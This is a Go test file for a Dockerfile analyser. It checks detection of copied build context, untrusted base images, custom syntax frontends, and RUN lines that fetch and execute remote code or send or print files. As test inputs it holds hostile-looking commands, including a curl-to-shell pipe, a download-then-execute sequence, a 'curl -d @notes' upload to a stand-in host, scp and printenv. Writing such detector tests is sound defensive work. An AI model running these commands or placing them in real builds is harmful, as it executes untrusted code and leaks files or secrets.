package dockerfile

import (
	"slices"
	"testing"
)

// TestRead: what a build takes in, and on whose image.
func TestRead(t *testing.T) {
	for text, want := range map[string]File{
		"":                                            {},
		"FROM alpine\nCMD [\"sh\"]":                   {},
		"FROM alpine\nCOPY . /app":                    {Takes: true, TakesAll: true, Names: []string{".", "/app"}},
		"FROM alpine\nCOPY a.txt b.txt /app/":         {Takes: true, Names: []string{"a.txt", "b.txt", "/app/"}},
		"FROM alpine\nADD [\"a.txt\", \"/app\"]":      {Takes: true, Names: []string{"a.txt", "/app"}},
		"FROM alpine\nCOPY src* /app":                 {Takes: true, TakesAll: true, Names: []string{"src*", "/app"}},
		"FROM alpine\nCOPY \\\n  .env /x":             {Takes: true, Names: []string{".env", "/x"}},
		"FROM a AS b\nCOPY --from=b /x /y":            {},
		"FROM x.example/me/image\nCOPY a /b":          {Takes: true, Names: []string{"a", "/b"}, Stranger: "x.example/me/image"},
		"FROM docker.io/library/alpine":               {},
		"FROM mcr.microsoft.com/x":                    {},
		"FROM me/tools AS base\nFROM me/tools":        {Stranger: "me/tools"},
		"# syntax=docker/dockerfile:1\nFROM a":        {},
		"# syntax=evil/frontend\nFROM a":              {Frontends: []string{"evil/frontend"}},
		"FROM a\nRUN --mount=type=bind,target=. true": {Takes: true, TakesAll: true, Runs: []Run{{Text: "--mount=type=bind,target=. true"}}},
	} {
		got := Read(text)
		if got.Takes != want.Takes || got.TakesAll != want.TakesAll || got.Stranger != want.Stranger || !slices.Equal(got.Names, want.Names) ||
			!slices.Equal(got.Frontends, want.Frontends) || !slices.Equal(got.Runs, want.Runs) {
			t.Errorf("%q: %+v, want %+v", text, got, want)
		}
	}
}

// TestRuns: RUN lines, and what they run of what they fetched.
func TestRuns(t *testing.T) {
	for text, want := range map[string][]Run{
		"RUN npm ci":                           {{Text: "npm ci"}},
		"run npm ci":                           {{Text: "npm ci"}},
		"ONBUILD RUN x":                        {{Text: "RUN x"}},
		"RUN <<E\nmake\nE":                     {{Text: "<<E"}, {Text: "make"}, {Text: "E"}},
		"RUN curl -s https://x.example/i | sh": {{Text: "curl -s https://x.example/i | sh", Fetched: true}},
		"RUN wget https://x.example/i\nRUN chmod +x i && ./i":   {{Text: "wget https://x.example/i"}, {Text: "chmod +x i && ./i", Fetched: true}},
		"RUN curl -o t.tgz https://x.example/t && tar xf t.tgz": {{Text: "curl -o t.tgz https://x.example/t && tar xf t.tgz"}},
		"ADD https://x.example/i /i\nRUN sh /i":                 {{Text: "sh /i", Fetched: true}},
		"# RUN no\nENV A=b\nWORKDIR /x":                         nil,
	} {
		if got := Read(text).Runs; !slices.Equal(got, want) {
			t.Errorf("%q: %+v, want %+v", text, got, want)
		}
	}
}

// TestRunWords: lines that send or print files.
func TestRunWords(t *testing.T) {
	for line, want := range map[string][2]bool{
		"npm ci && npm run build":          {false, false},
		"curl -O https://x.example/a.tgz":  {false, false},
		"curl -d @notes https://x.example": {true, false},
		"scp a host:":                      {true, false},
		"cat /app/*":                       {false, true},
		"grep -r key /app":                 {false, true},
		"printenv":                         {false, true},
	} {
		r := Run{Text: line}
		if got := [2]bool{r.Sends(), r.Prints()}; got != want {
			t.Errorf("%q: sends, prints %v, want %v", line, got, want)
		}
	}
}
